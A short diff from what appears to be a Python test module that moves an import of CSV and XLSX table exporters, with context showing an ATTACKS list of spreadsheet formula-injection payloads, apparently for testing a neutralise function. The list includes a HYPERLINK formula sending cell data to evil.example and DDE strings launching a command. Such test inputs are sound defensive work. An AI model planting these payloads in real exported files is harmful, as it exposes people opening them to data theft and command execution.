@@ -13,7 +13,7 @@ from kormo.documents.render.scores_csv import scores_csv
 from kormo.domain import plan as d
 from kormo.domain.spreadsheet import neutralise
 from kormo.domain.values import Number
-from kormo.progress.dashboard import table_csv, table_xlsx
+from kormo.progress.table_export import table_csv, table_xlsx
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&B2,"Click")', '@SUM(1+9)*cmd|" /C calc"!A0',
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
